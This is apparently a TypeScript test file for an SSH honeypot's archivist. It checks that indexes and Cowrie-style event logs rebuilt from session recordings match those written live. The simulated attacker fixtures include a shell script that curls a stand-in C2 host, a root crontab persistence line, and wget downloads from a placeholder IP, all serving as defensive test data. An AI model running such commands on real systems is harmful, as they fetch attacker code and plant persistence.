import assert from "node:assert/strict";
import { cpSync, readFileSync, readdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { rebuild } from "../../gateway/archivist/rebuild.ts";
import type { CowrieEvent } from "../../gateway/events/cowrie-event.ts";
import { recordings } from "../../gateway/index/find-recording.ts";
import { rebuildIndex } from "../../gateway/index/rebuild.ts";
import type { ByteString } from "../../gateway/model/bytes.ts";
import type { Capture } from "../../gateway/model/capture.ts";
import type { FileFact } from "../../gateway/model/file-facts.ts";
import type { SessionId } from "../../gateway/model/ids.ts";
import { sealRecording } from "../../gateway/recording/seal.ts";
import { string } from "../../gateway/ssh/messages/writer.ts";
import { Conversation, SANDBOX } from "../evidence/conversation.ts";
import { ArchivistChild, UUID } from "./child.ts";
import { NETWORK_FACTS } from "../evidence/network-facts.ts";
import { ROWS } from "../index/rows.ts";
import { DAY, dataFolder, Live, putCapture, putLateFacts } from "./folder.ts";

const GOLDENS = join(import.meta.dirname, "..", "goldens", "recordings");

const SEEN: FileFact = {
  ...{ kind: "file", how: "run", path: "/tmp/seen" as ByteString, sha256: "f1".repeat(32), size: 41 },
  ...{ pid: 14, uid: 0, time: 1_795_957_576_822_381 },
};

test("index and events rebuilt from the recordings equal those written while the sessions lived", async (t) => {
  const data = dataFolder(t);
  // What the captures below tell of is looked through for indicators.
  writeFileSync(join(data, "artifacts", "f1".repeat(32)), "#!/bin/sh\ncurl http://c2.example.com/x\n");
  writeFileSync(join(data, "artifacts", "c2".repeat(32)), "*/5 * * * * root /tmp/x\n");
  const archivist = await ArchivistChild.start(t, data, { rotateAt: 3000, keep: 100 });
  const talks = ["aaaaaaaaaaaa", "bbbbbbbbbbbb", "cccccccccccc"].map((id) => new Conversation(id));
  const lives = talks.map((talk) => new Live(data, talk.session));
  for (const live of lives)
    archivist.tell({ kind: "session-opened", session: live.session, path: live.path });
  const written = [0, 0, 0];
  const advance = (index: number) => {
    const entries = talks[index]?.entries ?? [];
    lives[index]?.write(entries.slice(written[index]));
    written[index] = entries.length;
  };
  for (const [index, talk] of talks.entries()) {
    talk
      .hello()
      .key("root", false, "refused")
      .password("root", "1234", "refused")
      .password("root", "p\xff", "accepted")
      .leased();
    advance(index);
  }
  for (let round = 0; round < 5; round++) {
    for (const [index, talk] of talks.entries()) {
      const shell = talk.after(300).open();
      talk.request(shell, "env", string("LC_ALL"), string("C")).shell(shell);
      talk.gets(shell, "\x1b[?2004h$ ").sends(shell, `wget http://203.0.113.9/f${round}\r`);
      advance(index);
      talk.gets(shell, "\r\n\x1b[?2004l\r").exits(shell, round);
      const scp = talk.open();
      talk.exec(scp, "scp -t /tmp/up").sends(scp, `C0644 3 up\nab${round}\0`).exits(scp, 0);
      talk.sends(talk.forward("203.0.113.9", 80), "GET / HTTP/1.0\r\n\r\n");
      for (const fact of NETWORK_FACTS) talk.fact(fact);
      for (const how of ["run", "run-and-deleted"] as const) talk.fact({ ...SEEN, how });
      advance(index);
    }
    await sleep(150);
  }
  for (const [index, talk] of talks.entries()) {
    const end = index === 1 ? "cut" : talk.after(5).end();
    const path = (await lives[index]?.finish(end)) ?? "";
    if (index !== 2) archivist.tell({ kind: "session-finished", session: talk.session, path });
    else {
      putCapture(data, path, capture("2026-11-23T09:00:00.000Z", ["bbbbbbbbbbbb", "cccccccccccc"]));
      archivist.tell({ kind: "session-finished", session: talk.session, path });
      archivist.tell({ kind: "capture", session: talk.session, path });
    }
    if (index === 0) {
      putCapture(data, path, capture("2026-11-23T08:00:00.000Z", ["aaaaaaaaaaaa"]));
      archivist.tell({ kind: "capture", session: talk.session, path });
    }
  }
  for (const talk of talks) await archivist.archived(talk.session);
  // Long after: another capture beside the first session's, then what the programs that were left running had tried.
  const [first, , third] = talks.map(({ session }) => join("recordings", DAY, session));
  putCapture(data, first ?? "", capture("2026-11-23T09:30:00.000Z", ["aaaaaaaaaaaa"], "/root/left"), 2);
  archivist.tell({ kind: "capture", session: "aaaaaaaaaaaa" as SessionId, path: first ?? "" });
  for (const path of [first ?? "", third ?? ""]) {
    putLateFacts(data, path, NETWORK_FACTS);
    archivist.tell({ kind: "network", session: path.slice(-12) as SessionId, path });
  }
  await archivist.drain();
  assert.deepEqual(archivist.problems, []);
  const [rows, events] = [tables(data), eventsBySession(join(data, "events"))];
  for (const [name, all] of Object.entries(rows)) assert.equal(all.length === 0, name === "waiting", name);
  assert.ok((events.get("aaaaaaaaaaaa")?.length ?? 0) > 40);
  const late = events.get("aaaaaaaaaaaa")?.filter((event) => event["late"] === true);
  assert.deepEqual(
    late?.map(({ eventid }) => eventid.slice(7)),
    [
      ...["session.file_download", "session.file_download", "session.file_download"],
      ...["network.denied", "network.sinkholed", "network.allowed", "network.capped", "network.denied"],
    ],
  );
  for (const all of events.values())
    assert.deepEqual(
      all.map((event) => event.mitsubako_sequence),
      Array.from(all, (_, index) => index),
    );

  const again = join(data, "again");
  for (const one of ["recordings", "artifacts"])
    cpSync(join(data, one), join(again, one), { recursive: true });
  const context = { uuid: UUID, arch: `linux-${process.arch}-lsb` };
  const options = { context, eventsFolder: join(again, "events"), rotateAt: 1e9 };
  assert.deepEqual(await rebuild(again, options), { sessions: 3, captures: 3, problems: [] });
  assert.deepEqual(tables(again), rows);
  assert.deepEqual(eventsBySession(join(again, "events")), events);

  rmSync(join(again, "index.sqlite"));
  await rebuildIndex(again);
  assert.deepEqual(tables(again), rows);

  // Sealed, they tell the same.
  for (const { session, path } of recordings(again)) {
    await sealRecording(join(again, path), join(again, "sealed"), session, []);
    renameSync(join(again, "sealed"), join(again, path));
  }
  for (const made of ["index.sqlite", "events"]) rmSync(join(again, made), { recursive: true });
  assert.deepEqual(await rebuild(again, options), { sessions: 3, captures: 3, problems: [] });
  assert.deepEqual(tables(again), rows);
  assert.deepEqual(eventsBySession(join(again, "events")), events);
});

test("recordings of the first form ever written are taken in", async (t) => {
  const data = dataFolder(t);
  for (const name of readdirSync(GOLDENS).filter((one) => one.endsWith(".mbr"))) {
    const bytes = readFileSync(join(GOLDENS, name));
    const session = bytes.toString("latin1", 12, 24);
    cpSync(join(GOLDENS, name), join(data, "recordings/2026-11-23", session, "session.mbr"));
  }
  const archivist = await ArchivistChild.start(t, data);
  await archivist.drain();
  assert.deepEqual(archivist.problems, []);
  const { sessions } = tables(data);
  assert.deepEqual(sessions?.map((row) => row["state"]).sort(), ["cut", "ended", "ended", "ended", "ended"]);
});

test("an index of another version, or a damaged one, is made anew", async (t) => {
  const data = dataFolder(t);
  const talk = new Conversation().login();
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  await live.finish(talk.end());
  for (const spoil of ["version", "bytes", "nothing"]) {
    const archivist = await ArchivistChild.start(t, data);
    await archivist.drain();
    assert.equal(tables(data)["sessions"]?.length, 1);
    if (spoil === "version") {
      using database = new DatabaseSync(join(data, "index.sqlite"));
      database.exec("PRAGMA user_version = 999; DROP TABLE sessions");
    } else if (spoil === "bytes") {
      writeFileSync(
        join(data, "index.sqlite"),
        "this is no database, though it is long enough to be taken for one".repeat(99),
      );
    }
  }
  const events = eventsBySession(join(data, "events")).get(talk.session);
  assert.equal(events?.length, 7, "and no event is written twice for it");
});

function capture(takenAt: string, sessions: string[], added = "/root/f1"): Capture {
  return {
    sandbox: SANDBOX,
    sessions: sessions as SessionId[],
    source: "192.0.2.7",
    takenAt,
    cut: false,
    changes: [
      { kind: "A", path: added, type: "file", size: 3, sha256: "f1".repeat(32), modifiedAt: takenAt },
      { kind: "A", path: "/root/l\xff", type: "link", linkTarget: "/etc/\x1b" },
      { kind: "C", path: "/etc/crontab", type: "file", size: 9, sha256: "c2".repeat(32) },
    ],
  };
}

function tables(data: string): Record<string, Record<string, unknown>[]> {
  using database = new DatabaseSync(join(data, "index.sqlite"), { readOnly: true });
  return Object.fromEntries(Object.entries(ROWS).map(([name, sql]) => [name, database.prepare(sql).all()]));
}

function eventsBySession(folder: string): Map<string, CowrieEvent[]> {
  const events = readdirSync(folder)
    .sort((a, b) => (a === "mitsubako.json" ? 1 : b === "mitsubako.json" ? -1 : a < b ? -1 : 1))
    .flatMap((name) => readFileSync(join(folder, name), "utf8").trimEnd().split("\n"))
    .map((line) => JSON.parse(line) as CowrieEvent);
  return Map.groupBy(events, ({ session }) => session);
}
